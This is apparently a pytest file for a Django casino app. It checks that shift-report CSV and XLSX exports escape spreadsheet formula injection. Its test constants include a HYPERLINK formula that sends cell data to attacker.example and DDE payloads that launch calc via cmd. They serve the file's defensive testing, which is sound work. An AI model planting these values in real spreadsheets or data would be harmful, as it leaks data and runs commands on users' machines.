"""What people typed never runs in a spreadsheet: the shift report's CSV and XLSX.

A player, a venue, a reason and a username are given the security review's formulas; the
night shift's report is built from them (tests/casino/reports/conftest.py) and its files
read back: no XLSX cell is a formula and every text reads as typed; the CSV starts with a
UTF-8 byte order mark, writes each such text after a ``'``, and keeps numbers, negative
ones included, as numbers.
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from django.contrib.auth import get_user_model
from openpyxl import load_workbook

from casino.cage.models import Slip
from casino.floor.models import Round
from casino.players.models import Player
from casino.reports import outputs, services
from casino.venues.models import Venue

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://attacker.example/?x="&A1,"click")'
VENUE = "=Hà Nội"
VOID_REASON = "+cmd|' /C calc'!A0"
SLIP_REASON = "@SUM(1+1)*cmd|' /C calc'!A0"
DEALER = "-dealer2"
TAB = "\tTab first"


@pytest.fixture
def files(night, report, quick_pdf):
    Player.objects.filter(pk=night.p1.pk).update(name=LINK)
    Player.objects.filter(pk=night.p2.pk).update(name=TAB)
    Venue.objects.filter(pk=night.venue.pk).update(name=VENUE)
    Round.objects.filter(pk=night.rounds["R4"].pk).update(void_reason=VOID_REASON)
    Slip.objects.filter(status="void").update(void_reason=SLIP_REASON)
    get_user_model().objects.filter(pk=night.dealer2.pk).update(username=DEALER)
    built = services.report_build(report_id=report.pk, email=False)
    return {f.name: bytes(f.content) for f in built.files.all()}


def test_no_xlsx_cell_is_a_formula_and_the_text_is_kept(files):
    book = load_workbook(io.BytesIO(files[outputs.XLSX_NAME]))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value: c for c in cells if isinstance(c.value, str)}
    for typed in (LINK, VENUE, VOID_REASON, SLIP_REASON, DEALER, TAB):
        assert typed in texts, typed
        cell = texts[typed]
        assert (cell.data_type, cell.quotePrefix) == ("s", True), typed
    assert (texts["NN1"].data_type, texts["NN1"].quotePrefix) == ("s", False)  # plain text
    # numbers stay numbers, a negative amount as well
    tables = book["Tables"]
    headers = [cell.value for cell in tables[1]]
    house_win = [row[headers.index("House win")] for row in tables.iter_rows(min_row=2)]
    negative = [cell for cell in house_win if cell.value is not None and cell.value < 0]
    assert negative and all(cell.data_type == "n" for cell in negative)


def test_the_csv_has_a_bom_escapes_formulas_and_keeps_numbers(files):
    raw = files[outputs.CSV_NAME]
    assert raw.startswith(b"\xef\xbb\xbf")
    text = raw.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0][:2] == ["Shift report", "'" + VENUE]
    assert "Hà Nội" in rows[0][1]
    cells = {cell for row in rows for cell in row}
    for typed in (LINK, VOID_REASON, SLIP_REASON, DEALER, TAB):
        assert "'" + typed in cells, typed
        assert typed not in cells, typed
    # no cell starts a formula except as a number: what starts with "-" is a number
    risky = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert risky and all(Decimal(c) < 0 for c in risky), risky
    start = rows.index(["[Tables]"])
    header, nn2 = rows[start + 1], rows[start + 4]
    assert nn2[0] == "NN2" and nn2[header.index("House win")].startswith("-")
